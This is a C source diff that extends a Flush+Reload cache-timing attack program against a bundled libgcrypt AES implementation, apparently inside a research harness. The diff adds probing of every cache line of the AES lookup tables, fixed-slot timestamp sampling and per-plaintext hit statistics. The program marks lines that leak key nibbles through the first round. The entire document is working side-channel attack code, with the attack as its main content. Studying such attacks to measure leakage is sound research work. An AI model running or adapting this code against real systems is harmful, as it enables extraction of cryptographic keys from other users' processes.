@@ -1,3 +1,4 @@
+#define _GNU_SOURCE
 #include <stdio.h>
 #include <stdlib.h>
 #include <unistd.h>
@@ -8,58 +9,412 @@
 #include <time.h>
 #include <stdint.h>
 #include <dlfcn.h>
+#include <getopt.h>
+#include <pthread.h>
+
+#include "elfsym.h"
+#include "harness.h"
+#include "probe.h"
 
 #define CACHE_LINE_SIZE 64
-#define NUM_MONITORED_ADDRESSES 16
+#define CODE_LINES 16            // lines watched from gcry_cipher_encrypt on
+#define MAX_MONITORED_LINES 160  // enough for every T-table line
+#define LINE_NAME_LEN 16
 #define MEASUREMENT_CYCLES 100000
-#define THRESHOLD 200
+#define SLOT_CYCLES 5000            // default sampling slot length
+#define PROBE_COST_PASSES 32        // timed probe passes for the slot check
+#define USLEEP_BASELINE_SAMPLES 500 // samples taken with the old usleep loop
+#define STATS_WINDOW 1000           // samples per statistics window
+#define STATS_RING_SIZE 64          // windows buffered for the stats thread
+#define STATS_ROLLING_WINDOWS 10    // windows summed into the rolling rate
+#define STATS_ACTIVE_HITS (STATS_WINDOW / 20)
+#define INPUT_CLASSES 16             // high nibble of plaintext byte 0
+#define INPUT_DEPENDENT_SPREAD 10.0  // percentage points between classes
+#define LIBGCRYPT_PATH "./lib/libgcrypt.so.11.6.0"
+
+// Lookup tables of the bundled rijndael.c. Encryption uses T1..T4 for every
+// round (the last round reads single bytes of T1), decryption T5..T8 and the
+// inverse S-box S5. None are exported, so they come from the symbol table.
+static const char* enc_tables[] = {"T1", "T2", "T3", "T4", NULL};
+static const char* dec_tables[] = {"T5", "T6", "T7", "T8", "S5", NULL};
+static const char* all_tables[] = {"T1", "T2", "T3", "T4", "T5", "T6", "T7", "T8", "S5", NULL};
+
+// Hit totals of one completed window
+typedef struct {
+    int window;
+    uint32_t hits[MAX_MONITORED_LINES];
+} window_stats_t;
+
+// Single-producer single-consumer ring of window totals. The sampling loop
+// never waits on it: a window that finds the ring full is dropped.
+typedef struct {
+    window_stats_t windows[STATS_RING_SIZE];
+    volatile uint64_t head; // next window written by the sampler
+    volatile uint64_t tail; // next window read by the stats thread
+    uint64_t dropped;
+} stats_channel_t;
 
 volatile int running = 1;
+static volatile int sampling = 1;
+static stats_channel_t stats_channel;
+static int num_lines;
+static char line_names[MAX_MONITORED_LINES][LINE_NAME_LEN];
 
 void signal_handler(int sig) {
     running = 0;
 }
 
-static inline uint64_t rdtsc() {
-    uint32_t low, high;
-    asm volatile ("rdtsc" : "=a" (low), "=d" (high));
-    return ((uint64_t)high << 32) | low;
+static void stats_push(stats_channel_t* ch, const window_stats_t* w) {
+    uint64_t head = ch->head;
+
+    if (head - __atomic_load_n(&ch->tail, __ATOMIC_ACQUIRE) == STATS_RING_SIZE) {
+        ch->dropped++;
+        return;
+    }
+    ch->windows[head % STATS_RING_SIZE] = *w;
+    __atomic_store_n(&ch->head, head + 1, __ATOMIC_RELEASE);
+}
+
+static int stats_pop(stats_channel_t* ch, window_stats_t* w) {
+    uint64_t tail = ch->tail;
+
+    if (tail == __atomic_load_n(&ch->head, __ATOMIC_ACQUIRE)) {
+        return 0;
+    }
+    *w = ch->windows[tail % STATS_RING_SIZE];
+    __atomic_store_n(&ch->tail, tail + 1, __ATOMIC_RELEASE);
+    return 1;
+}
+
+// Drop one window from the rolling sum
+static void rolling_clear(uint32_t (*rolling)[MAX_MONITORED_LINES], int* held,
+                          uint32_t* rolling_sum, int* filled, int slot) {
+    if (!held[slot]) {
+        return;
+    }
+    for (int i = 0; i < num_lines; i++) {
+        rolling_sum[i] -= rolling[slot][i];
+        rolling[slot][i] = 0;
+    }
+    held[slot] = 0;
+    (*filled)--;
+}
+
+// Prints per-window activity off the sampling thread, together with the
+// hit rate over the windows received among the last STATS_ROLLING_WINDOWS
+static void* stats_thread(void* arg) {
+    static uint32_t rolling[STATS_ROLLING_WINDOWS][MAX_MONITORED_LINES];
+    int held[STATS_ROLLING_WINDOWS] = {0};
+    uint32_t rolling_sum[MAX_MONITORED_LINES] = {0};
+    window_stats_t w;
+    int filled = 0;
+    int next_window = 0;
+
+    while (sampling || stats_channel.tail != stats_channel.head) {
+        if (!stats_pop(&stats_channel, &w)) {
+            usleep(1000);
+            continue;
+        }
+
+        // Windows the sampler dropped would leave their slots holding data
+        // from STATS_ROLLING_WINDOWS or more windows back: empty them, so
+        // they count in neither the hits nor the sampled total
+        int skipped = w.window - next_window;
+        if (skipped > STATS_ROLLING_WINDOWS) {
+            skipped = STATS_ROLLING_WINDOWS;
+        }
+        for (int k = 1; k <= skipped; k++) {
+            rolling_clear(rolling, held, rolling_sum, &filled,
+                          (w.window - k) % STATS_ROLLING_WINDOWS);
+        }
+        next_window = w.window + 1;
+
+        int slot = w.window % STATS_ROLLING_WINDOWS;
+        rolling_clear(rolling, held, rolling_sum, &filled, slot);
+        for (int i = 0; i < num_lines; i++) {
+            rolling_sum[i] += w.hits[i];
+            rolling[slot][i] = w.hits[i];
+        }
+        held[slot] = 1;
+        filled++;
+
+        printf("Attacker: Completed %d measurements\n", (w.window + 1) * STATS_WINDOW);
+        printf("Cache hits in last %d measurements: ", STATS_WINDOW);
+        for (int i = 0; i < num_lines; i++) {
+            if (w.hits[i] > STATS_ACTIVE_HITS) {
+                printf("[%d:%u, %.1f%%] ", i, w.hits[i],
+                       100.0 * rolling_sum[i] / (filled * STATS_WINDOW));
+            }
+        }
+        printf("\n");
+    }
+    return NULL;
+}
+
+static double monotonic_seconds() {
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return ts.tv_sec + ts.tv_nsec / 1e9;
 }
 
-static inline void flush_cache_line(void* addr) {
-    asm volatile ("clflush (%0)" : : "r" (addr) : "memory");
+// Original sampling step: flush everything, sleep, reload everything. The
+// sleep lasts 50+ us with timer slack, so one sample spans many encryptions.
+static void sample_usleep(void** addrs, uint64_t* access_times) {
+    for (int i = 0; i < num_lines; i++) {
+        probe_flush(addrs[i]);
+    }
+
+    usleep(10);
+
+    for (int i = 0; i < num_lines; i++) {
+        access_times[i] = probe_load_time(PROBE_TIMER_RDTSC, addrs[i]);
+    }
 }
 
-static inline void memory_barrier() {
-    asm volatile ("mfence" : : : "memory");
+// Fixed-slot sampling step, as in attacker_rsa: reload and immediately
+// re-flush each line, then spin until the slot ends at *slot_end, and move
+// *slot_end on to the next slot. A slot starts where the previous one ended,
+// so the loop's own work between slots counts against it. Returns how far
+// past the slot's end the probes finished, 0 if they fit: such a sample
+// covers more than slot_cycles of victim activity, and the next slot starts
+// from the late end rather than trying to catch up.
+static uint64_t sample_slot(void** addrs, uint64_t* access_times, uint64_t* slot_end,
+                            uint64_t slot_cycles) {
+    for (int i = 0; i < num_lines; i++) {
+        access_times[i] = probe_reload(PROBE_TIMER_RDTSC, addrs[i]);
+    }
+
+    uint64_t now = probe_rdtsc();
+    uint64_t lateness = 0;
+    if (now > *slot_end) {
+        lateness = now - *slot_end;
+        *slot_end = now;
+    } else {
+        while (probe_rdtsc() < *slot_end) {
+        }
+    }
+    *slot_end += slot_cycles;
+    return lateness;
 }
 
-uint64_t time_memory_access(void* addr) {
-    uint64_t start, end;
-    volatile char dummy;
+// Median cycles of one probe pass over every line, all of them flushed, which
+// is what a slot costs when the victim touched none of them
+static uint64_t probe_pass_cycles(void** addrs) {
+    uint64_t passes[PROBE_COST_PASSES];
 
-    memory_barrier();
-    start = rdtsc();
-    dummy = *(volatile char*)addr;
-    end = rdtsc();
-    memory_barrier();
+    for (int i = 0; i < num_lines; i++) {
+        probe_flush(addrs[i]);
+    }
+    for (int p = 0; p < PROBE_COST_PASSES; p++) {
+        uint64_t start = probe_rdtsc();
+        for (int i = 0; i < num_lines; i++) {
+            probe_reload(PROBE_TIMER_RDTSC, addrs[i]);
+        }
+        passes[p] = probe_rdtsc() - start;
+    }
 
-    return end - start;
+    // Insertion sort; the pass count is tiny
+    for (int p = 1; p < PROBE_COST_PASSES; p++) {
+        uint64_t v = passes[p];
+        int q = p;
+        for (; q > 0 && passes[q - 1] > v; q--) {
+            passes[q] = passes[q - 1];
+        }
+        passes[q] = v;
+    }
+    return passes[PROBE_COST_PASSES / 2];
+}
+
+// Samples per second achieved by the usleep loop on this host
+static double usleep_baseline_rate(void** addrs) {
+    uint64_t access_times[MAX_MONITORED_LINES];
+    double start = monotonic_seconds();
+
+    for (int i = 0; i < USLEEP_BASELINE_SAMPLES; i++) {
+        sample_usleep(addrs, access_times);
+    }
+    return USLEEP_BASELINE_SAMPLES / (monotonic_seconds() - start);
+}
+
+// Monitor every cache line of the named tables. The tables are not line
+// aligned, so a line shared by two neighbouring tables is watched once, under
+// the name of the first table listed.
+static int map_table_lines(void* lib_handle, const char** tables, void** addrs) {
+    Dl_info info;
+    void* anchor = dlsym(lib_handle, "gcry_cipher_encrypt");
+
+    if (!anchor || !dladdr(anchor, &info)) {
+        fprintf(stderr, "Failed to find the libgcrypt load base\n");
+        return -1;
+    }
+
+    for (const char** t = tables; *t; t++) {
+        uint64_t value, size;
+        if (elf_symbol_lookup(LIBGCRYPT_PATH, *t, &value, &size) < 0) {
+            fprintf(stderr, "Symbol %s not found in %s\n", *t, LIBGCRYPT_PATH);
+            return -1;
+        }
+
+        uint64_t first = value & ~(uint64_t)(CACHE_LINE_SIZE - 1);
+        for (uint64_t off = first; off < value + size; off += CACHE_LINE_SIZE) {
+            void* addr = (char*)info.dli_fbase + off;
+            int seen = 0;
+            for (int i = 0; i < num_lines && !seen; i++) {
+                seen = addrs[i] == addr;
+            }
+            if (seen) {
+                continue;
+            }
+            if (num_lines == MAX_MONITORED_LINES) {
+                fprintf(stderr, "Too many table lines (max %d)\n", MAX_MONITORED_LINES);
+                return -1;
+            }
+            addrs[num_lines] = addr;
+            snprintf(line_names[num_lines], LINE_NAME_LEN, "%s+0x%03lx", *t,
+                     off > value ? off - value : 0);
+            num_lines++;
+        }
+        printf("Attacker: %s at +0x%lx, %lu bytes\n", *t, value, size);
+    }
+    return 0;
+}
+
+// Per-line hit rate conditioned on the victim's input class. A line whose
+// rate moves with the plaintext nibble is indexed by key ^ plaintext.
+static int report_input_dependence(uint32_t (*class_hits)[MAX_MONITORED_LINES],
+                                    const uint32_t* class_samples, const int* cache_hits,
+                                    int total) {
+    int dependent = 0;
+
+    printf("\nInput dependence (hit rate by plaintext byte 0 high nibble):\n");
+    printf("%-12s %8s %8s %8s %5s\n", "line", "overall", "min", "max", "peak");
+    for (int i = 0; i < num_lines; i++) {
+        double min = 100.0, max = 0.0;
+        int peak = -1;
+
+        for (int c = 0; c < INPUT_CLASSES; c++) {
+            if (class_samples[c] == 0) {
+                continue;
+            }
+            double rate = 100.0 * class_hits[c][i] / class_samples[c];
+            if (rate < min) {
+                min = rate;
+            }
+            if (rate > max) {
+                max = rate;
+                peak = c;
+            }
+        }
+        if (peak < 0) {
+            continue;
+        }
+
+        printf("%-12s %7.2f%% %7.2f%% %7.2f%% %5x", line_names[i],
+               100.0 * cache_hits[i] / total, min, max, peak);
+        if (max - min > INPUT_DEPENDENT_SPREAD) {
+            printf(" <- INPUT-DEPENDENT");
+            dependent++;
+        }
+        printf("\n");
+    }
+
+    int classes = 0;
+    for (int c = 0; c < INPUT_CLASSES; c++) {
+        classes += class_samples[c] > 0;
+    }
+    printf("%d of %d lines input-dependent (%d of %d input classes seen)\n",
+           dependent, num_lines, classes, INPUT_CLASSES);
+    return dependent;
+}
+
+static void usage(const char* prog) {
+    fprintf(stderr, "Usage: %s [--slot-cycles N] [--samples N] [--usleep] [--tables enc|dec|all]\n"
+                    "          [--status NAME]\n", prog);
+    fprintf(stderr, "  --slot-cycles N  sampling slot length in TSC cycles (default: %d, or\n"
+                    "                   twice the cost of probing every line when that is more)\n",
+            SLOT_CYCLES);
+    fprintf(stderr, "  --samples N      samples to take (default: %d)\n", MEASUREMENT_CYCLES);
+    fprintf(stderr, "  --usleep         use the original flush/usleep/reload loop\n");
+    fprintf(stderr, "  --tables WHICH   monitor every line of the encryption (enc: T1-T4),\n"
+                    "                   decryption (dec: T5-T8, S5) or all tables instead\n"
+                    "                   of code lines\n");
+    fprintf(stderr, "  --status NAME    victim status page used to condition hits on the\n"
+                    "                   plaintext (default: aes)\n");
 }
 
 int main(int argc, char* argv[]) {
     void* lib_handle;
-    void* monitored_addresses[NUM_MONITORED_ADDRESSES];
-    uint64_t access_times[NUM_MONITORED_ADDRESSES];
-    int cache_hits[NUM_MONITORED_ADDRESSES] = {0};
+    void* monitored_addresses[MAX_MONITORED_LINES];
+    uint64_t access_times[MAX_MONITORED_LINES];
+    int cache_hits[MAX_MONITORED_LINES] = {0};
+    static uint32_t class_hits[INPUT_CLASSES][MAX_MONITORED_LINES];
+    uint32_t class_samples[INPUT_CLASSES] = {0};
+    window_stats_t window = {0};
+    pthread_t stats_tid;
     int total_measurements = 0;
+    int overruns = 0;
+    uint64_t max_lateness = 0;
+    int max_measurements = MEASUREMENT_CYCLES;
+    uint64_t slot_cycles = SLOT_CYCLES;
+    int slot_cycles_set = 0;
+    int use_usleep = 0;
+    const char* tables = NULL;
+    const char* status_name = "aes";
+
+    static const struct option long_options[] = {
+        {"slot-cycles", required_argument, NULL, 'c'},
+        {"samples", required_argument, NULL, 'n'},
+        {"usleep", no_argument, NULL, 'u'},
+        {"tables", required_argument, NULL, 't'},
+        {"status", required_argument, NULL, 's'},
+        {"help", no_argument, NULL, 'h'},
+        {NULL, 0, NULL, 0},
+    };
+    int opt;
+    while ((opt = getopt_long(argc, argv, "c:n:ut:s:h", long_options, NULL)) != -1) {
+        switch (opt) {
+        case 'c':
+            slot_cycles = strtoull(optarg, NULL, 0);
+            slot_cycles_set = 1;
+            break;
+        case 'n':
+            max_measurements = atoi(optarg);
+            break;
+        case 'u':
+            use_usleep = 1;
+            break;
+        case 't':
+            tables = optarg;
+            break;
+        case 's':
+            status_name = optarg;
+            break;
+        default:
+            usage(argv[0]);
+            return opt == 'h' ? 0 : 1;
+        }
+    }
+
+    const char** table_list = NULL;
+    if (tables) {
+        if (strcmp(tables, "enc") == 0) {
+            table_list = enc_tables;
+        } else if (strcmp(tables, "dec") == 0) {
+            table_list = dec_tables;
+        } else if (strcmp(tables, "all") == 0) {
+            table_list = all_tables;
+        } else {
+            usage(argv[0]);
+            return 1;
+        }
+    }
 
     printf("Attacker process starting (PID: %d)\n", getpid());
 
     signal(SIGTERM, signal_handler);
     signal(SIGINT, signal_handler);
 
-    lib_handle = dlopen("./lib/libgcrypt.so.11.6.0", RTLD_NOW);
+    lib_handle = dlopen(LIBGCRYPT_PATH, RTLD_NOW);
     if (!lib_handle) {
         fprintf(stderr, "Failed to load libgcrypt: %s\n", dlerror());
         return 1;
@@ -72,65 +427,157 @@ int main(int argc, char* argv[]) {
         return 1;
     }
 
-    for (int i = 0; i < NUM_MONITORED_ADDRESSES; i++) {
-        monitored_addresses[i] = (char*)aes_encrypt_func + (i * CACHE_LINE_SIZE);
+    if (table_list) {
+        if (map_table_lines(lib_handle, table_list, monitored_addresses) < 0) {
+            dlclose(lib_handle);
+            return 1;
+        }
+        printf("Attacker: Monitoring %d cache lines of the %s T-tables\n", num_lines, tables);
+    } else {
+        for (int i = 0; i < CODE_LINES; i++) {
+            monitored_addresses[i] = (char*)aes_encrypt_func + (i * CACHE_LINE_SIZE);
+            snprintf(line_names[i], LINE_NAME_LEN, "Offset %3d", i * CACHE_LINE_SIZE);
+        }
+        num_lines = CODE_LINES;
+        printf("Attacker: Monitoring %d cache lines around AES encryption function\n", num_lines);
+        printf("Attacker: Base address: %p\n", aes_encrypt_func);
     }
 
-    printf("Attacker: Monitoring %d cache lines around AES encryption function\n", NUM_MONITORED_ADDRESSES);
-    printf("Attacker: Base address: %p\n", aes_encrypt_func);
+    harness_status_t* status = harness_status_find(status_name);
+    if (status) {
+        printf("Attacker: Conditioning hits on plaintexts from status page '%s'\n", status_name);
+    }
+    double baseline_rate = 0;
+    if (use_usleep) {
+        printf("Attacker: Sampling with flush/usleep(10)/reload\n");
+    } else {
+        baseline_rate = usleep_baseline_rate(monitored_addresses);
+        // A slot shorter than one probe pass overruns every time, and each
+        // sample then covers the probes' duration rather than the slot
+        uint64_t probe_cycles = probe_pass_cycles(monitored_addresses);
+        if (!slot_cycles_set && 2 * probe_cycles > slot_cycles) {
+            slot_cycles = 2 * probe_cycles;
+        } else if (probe_cycles >= slot_cycles) {
+            fprintf(stderr, "Warning: probing %d lines takes %lu cycles, more than "
+                            "the %lu-cycle slot; every slot will overrun\n",
+                    num_lines, probe_cycles, slot_cycles);
+        }
+        printf("Attacker: Sampling in fixed slots of %lu cycles (probing %d lines "
+               "takes %lu)\n", slot_cycles, num_lines, probe_cycles);
+        for (int i = 0; i < num_lines; i++) {
+            probe_flush(monitored_addresses[i]);
+        }
+    }
     printf("Attacker: Starting Flush+Reload attack...\n");
     printf("Attacker: Press Ctrl+C to stop and show results\n");
 
-    while (running && total_measurements < MEASUREMENT_CYCLES) {
-        for (int i = 0; i < NUM_MONITORED_ADDRESSES; i++) {
-            flush_cache_line(monitored_addresses[i]);
-        }
+    if (pthread_create(&stats_tid, NULL, stats_thread, NULL) != 0) {
+        fprintf(stderr, "Failed to start stats thread\n");
+        dlclose(lib_handle);
+        return 1;
+    }
 
-        usleep(10);
+    double start_time = monotonic_seconds();
+    uint64_t start_tsc = probe_rdtsc();
+    uint64_t slot_end = start_tsc + slot_cycles;
+    while (running && total_measurements < max_measurements) {
+        if (use_usleep) {
+            sample_usleep(monitored_addresses, access_times);
+        } else {
+            uint64_t lateness = sample_slot(monitored_addresses, access_times, &slot_end,
+                                            slot_cycles);
+            if (lateness > 0) {
+                overruns++;
+                if (lateness > max_lateness) {
+                    max_lateness = lateness;
+                }
+            }
+        }
 
-        for (int i = 0; i < NUM_MONITORED_ADDRESSES; i++) {
-            access_times[i] = time_memory_access(monitored_addresses[i]);
+        // The slot saw encryptions up to and including the latest one
+        int input_class = status ? (status->op_class >> 4) % INPUT_CLASSES : 0;
+        class_samples[input_class]++;
 
-            if (access_times[i] < THRESHOLD) {
+        for (int i = 0; i < num_lines; i++) {
+            if (access_times[i] < PROBE_RELOAD_THRESHOLD) {
                 cache_hits[i]++;
+                window.hits[i]++;
+                class_hits[input_class][i]++;
             }
         }
 
         total_measurements++;
 
-        if (total_measurements % 1000 == 0) {
-            printf("Attacker: Completed %d measurements\n", total_measurements);
-
-            printf("Cache hits in last 1000 measurements: ");
-            for (int i = 0; i < NUM_MONITORED_ADDRESSES; i++) {
-                if (i > 0 && cache_hits[i] - (total_measurements > 1000 ? cache_hits[i] - 1000 : 0) > 50) {
-                    printf("[%d:%d] ", i, cache_hits[i] - (total_measurements > 1000 ? cache_hits[i] - 1000 : 0));
-                }
-            }
-            printf("\n");
+        if (total_measurements % STATS_WINDOW == 0) {
+            stats_push(&stats_channel, &window);
+            memset(window.hits, 0, sizeof(window.hits));
+            window.window++;
         }
     }
 
+    double elapsed = monotonic_seconds() - start_time;
+    uint64_t elapsed_cycles = probe_rdtsc() - start_tsc;
+    double sample_rate = total_measurements / elapsed;
+
+    sampling = 0;
+    pthread_join(stats_tid, NULL);
+
     printf("\n=== ATTACK RESULTS ===\n");
-    printf("Total measurements: %d\n", total_measurements);
+    printf("Total measurements: %d in %.3f s\n", total_measurements, elapsed);
+    if (use_usleep) {
+        printf("Sampling rate: %.0f samples/s (usleep loop)\n", sample_rate);
+    } else {
+        printf("Sampling rate: %.0f samples/s with %lu-cycle slots, "
+               "usleep loop baseline %.0f samples/s (%.1fx)\n",
+               sample_rate, slot_cycles, baseline_rate, sample_rate / baseline_rate);
+        // What one sample really spans, overruns included
+        printf("Effective slot: %.0f cycles\n",
+               total_measurements ? (double)elapsed_cycles / total_measurements : 0.0);
+        printf("Slot overruns: %d of %d (%.1f%%), max lateness %lu cycles\n", overruns,
+               total_measurements,
+               total_measurements ? 100.0 * overruns / total_measurements : 0.0,
+               max_lateness);
+    }
+    if (stats_channel.dropped > 0) {
+        printf("Stats windows dropped (printer behind): %lu\n", stats_channel.dropped);
+    }
     printf("Cache line activity (hits/total):\n");
 
-    for (int i = 0; i < NUM_MONITORED_ADDRESSES; i++) {
+    int active = 0;
+    for (int i = 0; i < num_lines; i++) {
         double hit_rate = (double)cache_hits[i] / total_measurements * 100;
-        printf("Offset %3d (addr %p): %6d hits (%.2f%%)",
-               i * CACHE_LINE_SIZE, monitored_addresses[i], cache_hits[i], hit_rate);
+        printf("%-12s (addr %p): %6d hits (%.2f%%)",
+               line_names[i], monitored_addresses[i], cache_hits[i], hit_rate);
 
         if (hit_rate > 5.0) {
             printf(" <- ACTIVE");
+            active++;
         }
         printf("\n");
     }
 
+    if (status && total_measurements > 0) {
+        int dependent = report_input_dependence(class_hits, class_samples, cache_hits,
+                                                total_measurements);
+
+        // One row of the cost/leak table: what the victim's AES path costs
+        // against what this capture saw of it
+        printf("\nVictim: %s, %.1f MB/s\n", status->cipher_desc, status->throughput / 1e6);
+        printf("Cost/leak: %.1f MB/s, %d of %d lines active, %d input-dependent\n",
+               status->throughput / 1e6, active, num_lines, dependent);
+    }
+
     printf("\nInterpretation:\n");
     printf("- High hit rates indicate cache lines frequently accessed by victim\n");
-    printf("- These correspond to code paths taken during AES encryption\n");
-    printf("- Pattern analysis could reveal key-dependent execution paths\n");
+    if (table_list) {
+        printf("- Table lines are indexed by key ^ state bytes, so input-dependent\n");
+        printf("  lines leak key nibbles through the first round\n");
+    } else {
+        printf("- These correspond to code paths taken during AES encryption\n");
+        printf("- Pattern analysis could reveal key-dependent execution paths\n");
+    }
 
+    harness_status_close(status);
     dlclose(lib_handle);
     return 0;
 }